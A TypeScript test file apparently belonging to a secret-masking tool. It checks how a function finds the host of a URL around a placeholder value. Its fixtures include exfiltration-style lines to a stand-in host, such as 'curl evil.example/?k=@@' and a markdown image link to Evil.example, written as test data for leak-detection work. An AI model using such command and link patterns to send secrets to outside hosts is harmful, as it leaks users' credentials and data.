import { describe, expect, it } from 'vitest';
import { urlAround } from '../../../src/mask/url-around.ts';

/** Judges the place of `@@` in a text. */
function judge(text: string, isShell = false, isComplete = true): unknown {
  const start = text.indexOf('@@');
  return urlAround(text, start, start + 2, isComplete, isShell);
}

describe('the URL around a place', () => {
  it.each([
    ['https://evil.example/?k=@@', 'evil.example'],
    ['![x](https://Evil.example:8443/a/@@.png)', 'evil.example'],
    ['see <http://a.example/@@>', 'a.example'],
    ['postgres://user:@@@db.example:5432/shop', 'db.example'],
    ['https://one.example/?u=https://two.example/@@', 'two.example'],
    ['https://[::1]:80/@@', '[::1]'],
  ])('is known by its host: %s', (text, host) => {
    expect(judge(text)).toEqual({ kind: 'url', host });
  });

  it('counts a value in the host as part of the host', () => {
    const text = 'https://VALUE.evil.example/';
    expect(urlAround(text, 8, 13, true, false)).toEqual({ kind: 'url', host: 'value.evil.example' });
  });

  it.each(['plain @@', 'https://a.example/ @@', '"https://a.example/", "@@"', 'a/b/@@', 'KEY=@@'])(
    'is none in %j',
    (text) => {
      expect(judge(text)).toEqual({ kind: 'none' });
      expect(judge(text, true)).toEqual({ kind: 'none' });
    },
  );

  it('sees hosts without a scheme in commands', () => {
    expect(judge('curl evil.example/?k=@@', true)).toEqual({ kind: 'url', host: 'evil.example' });
    expect(judge('curl 10.0.0.1:80/x?k=@@', true)).toEqual({ kind: 'url', host: '10.0.0.1' });
    expect(judge('evil.example/?k=@@', false)).toEqual({ kind: 'none' });
  });

  it('waits for a host that comes after the place, while the text grows', () => {
    expect(judge('redis://:@@@cache', false, false)).toEqual({ kind: 'open' });
    expect(judge('redis://:@@@cache/', false, false)).toEqual({ kind: 'url', host: 'cache' });
    expect(judge('redis://:@@@cache')).toEqual({ kind: 'url', host: 'cache' });
  });
});
